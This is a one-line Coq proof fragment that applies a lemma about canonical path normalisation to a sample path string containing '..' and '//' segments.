Proof. split; [reflexivity|]. by apply (normalisation_canonical "/p/../../a//b/."). Defined.
